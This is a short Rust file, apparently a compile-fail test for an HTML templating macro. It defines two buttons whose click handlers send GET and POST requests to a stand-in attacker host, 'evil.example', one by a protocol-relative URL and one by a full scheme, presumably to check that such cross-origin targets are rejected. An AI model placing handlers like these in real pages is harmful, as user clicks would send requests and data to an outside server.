use starmark::html;

fn main() {
    let _ = html! {
        button data-on:click="@get('//evil.example/x')" { "Two slashes" }
        button data-on:click="@post('https://evil.example/x')" { "A scheme" }
    };
}
